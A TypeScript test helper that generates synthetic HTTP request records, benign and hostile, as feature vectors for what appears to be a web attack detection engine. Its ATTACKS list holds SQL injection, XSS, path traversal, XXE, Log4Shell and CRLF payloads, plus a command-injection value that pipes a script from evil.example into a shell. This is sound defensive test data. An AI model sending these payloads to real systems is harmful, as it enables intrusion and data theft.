/**
 * Realistic feature vectors for engine tests: the 42 fixtures plus deterministic synthetic records (benign
 * browsing, APIs, forms and uploads, and common attack payloads in queries, bodies, cookies and headers).
 */
import { featuresOfRecord, type FeatureVector } from "../../src/features/mod.ts";
import { prng } from "../../src/model/random.ts";
import type { RequestRecord } from "../../src/record/record.ts";

const PATHS = [
  "/",
  "/shop/products/1234",
  "/api/v1/users/42/orders",
  "/search",
  "/static/js/app.3f9a.js",
  "/login",
  "/admin/settings",
  "/blog/2024/05/edge-ml",
  "/cart/checkout",
  "/images/cat%20photo.png",
  "/wp-login.php",
  "/api/graphql",
];
const KEYS = [
  "q",
  "id",
  "page",
  "sort",
  "category",
  "user",
  "redirect",
  "file",
  "lang",
  "token",
  "ref",
  "limit",
];
const BENIGN = [
  "red running shoes",
  "42",
  "price_asc",
  "en-US",
  "john.doe@example.com",
  "https://example.com/home",
  "Zürich café",
  "2024-05-01",
  "a1b2c3d4e5",
  "true",
  "hello world!",
  "10",
];
const ATTACKS = [
  "' OR 1=1--",
  "1 UNION SELECT username, password FROM users",
  "<script>alert(document.cookie)</script>",
  '"><img src=x onerror=alert(1)>',
  "; cat /etc/passwd",
  "$(curl http://evil.example/x.sh | sh)",
  "../../../../etc/passwd",
  "..%2f..%2f..%2fwindows%5cwin.ini",
  "{{7*7}}",
  "${jndi:ldap://evil.example/a}",
  "1; DROP TABLE orders;--",
  "%27%20or%20sleep(5)%23",
  "javascript:alert(1)",
  "admin)(|(password=*))",
  "%0d%0aSet-Cookie:%20x=1",
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
];
const UAS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
  "curl/8.4.0",
  "python-requests/2.31.0",
  "sqlmap/1.7.2#stable (https://sqlmap.org)",
  "ShopApp/4.2.1 (iPhone; iOS 17.1; Scale/3.00)",
];

/**
 * Deterministic synthetic records.
 *
 * @param n How many.
 * @param seed The generator's seed.
 */
export function syntheticRecords(n: number, seed = 1): RequestRecord[] {
  const rng = prng(seed);
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rng.uniform() * xs.length)];
  const value = () => rng.uniform() < 0.35 ? pick(ATTACKS) : pick(BENIGN);
  const out: RequestRecord[] = [];
  for (let i = 0; i < n; i++) {
    const params = Math.floor(rng.uniform() * 5);
    const q = Array.from({ length: params }, () => `${pick(KEYS)}=${encodeURIComponent(value())}`).join("&");
    const headers: Record<string, string> = { "user-agent": pick(UAS), accept: "*/*" };
    if (rng.uniform() < 0.4) headers.cookie = `session=${pick(BENIGN).replace(/\W/g, "")}; pref=${value()}`;
    if (rng.uniform() < 0.2) headers.referer = `https://example.com/?x=${encodeURIComponent(value())}`;
    if (rng.uniform() < 0.1) headers["x-forwarded-for"] = value();
    const kind = rng.uniform();
    let method = "GET", body: string | undefined;
    if (kind < 0.2) {
      method = "POST";
      headers["content-type"] = "application/x-www-form-urlencoded";
      body = `user=${encodeURIComponent(value())}&comment=${encodeURIComponent(value())}`;
    } else if (kind < 0.35) {
      method = pick(["POST", "PUT", "PATCH"]);
      headers["content-type"] = "application/json";
      body = JSON.stringify({
        id: Math.floor(rng.uniform() * 1000),
        name: value(),
        tags: [value(), value()],
      });
    } else if (kind < 0.4) {
      method = "POST";
      headers["content-type"] = "multipart/form-data; boundary=XyZ";
      body = `--XyZ\r\nContent-Disposition: form-data; name="file"; filename="${
        pick(["a.png", "shell.php"])
      }"\r\n\r\n${value()}\r\n--XyZ--\r\n`;
    } else if (kind < 0.45) {
      method = pick(["DELETE", "OPTIONS", "HEAD", "PROPFIND"]);
    }
    out.push({ method, url: pick(PATHS) + (q ? `?${q}` : ""), headers, body });
  }
  return out;
}

/** The fixture records of `test/fixtures/requests.jsonl`. */
export function fixtureRecords(): RequestRecord[] {
  return Deno.readTextFileSync(new URL("../fixtures/requests.jsonl", import.meta.url))
    .split("\n").filter((l) => l).map((l) => JSON.parse(l));
}

/**
 * At least `n` realistic feature vectors: every fixture, then synthetic records.
 *
 * @param n How many at least.
 */
export function realisticFeatures(n: number): FeatureVector[] {
  const recs = fixtureRecords();
  return [...recs, ...syntheticRecords(Math.max(0, n - recs.length))].map((r) => featuresOfRecord(r));
}
